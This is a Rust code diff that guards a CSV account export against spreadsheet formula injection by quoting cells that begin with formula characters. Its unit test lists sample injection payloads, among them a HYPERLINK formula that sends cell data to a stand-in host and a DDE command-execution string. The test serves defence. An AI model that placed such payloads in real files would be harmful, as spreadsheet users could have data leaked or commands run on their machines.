@@ -136,8 +136,8 @@ async fn page_rows(cursor: &Cursor, page: Vec<Line>) -> Result<Bytes, sqlx::Erro
                 .unwrap_or_else(|| (crate::quota::rules::FREE_PLAN.to_owned(), 0));
             [
                 line.account_id.to_string(),
-                line.email,
-                plan,
+                text_cell(line.email),
+                text_cell(plan),
                 allowance.to_string(),
                 line.used.to_string(),
                 line.calls.to_string(),
@@ -147,6 +147,16 @@ async fn page_rows(cursor: &Cursor, page: Vec<Line>) -> Result<Bytes, sqlx::Erro
         })
         .collect();
     Ok(rows(&lines))
+}
+
+/// A text cell a spreadsheet will not read as a formula: one that begins with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP, "CSV Injection").
+/// Numbers and timestamps are written by the product and never need it.
+fn text_cell(text: String) -> String {
+    match text.as_bytes().first() {
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{text}"),
+        _ => text,
+    }
 }
 
 /// Records as CSV (RFC 4180: fields quoted when they hold a comma, a quote or a line
@@ -195,6 +205,27 @@ mod tests {
             &out[..],
             b"7,\"\"\"a,b\"\"@example.com\",\"gold\nplus\",100,3,3,0,2026-11-01T00:00:00Z\r\n"
         );
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+        let formulas = [
+            "=HYPERLINK(\"http://evil.example/?leak=\"&B3,\"Click\")@x.com",
+            "=cmd|'/ccalc'!a0@x.com",
+            "+1+1@x.com",
+            "-2+3@x.com",
+            "@SUM(A1)@x.com",
+            "\tx@x.com",
+            "\rx@x.com",
+        ];
+        for email in formulas {
+            assert_eq!(text_cell(email.to_owned()), format!("'{email}"));
+        }
+        for plain in ["a@example.com", "a=b@example.com", "pro", ""] {
+            assert_eq!(text_cell(plain.to_owned()), plain);
+        }
+        let out = rows(&[record(&text_cell("=1+1@x.com".into()), "pro")]);
+        assert!(out.starts_with(b"7,'=1+1@x.com,pro,"), "{out:?}");
     }
 
     #[test]
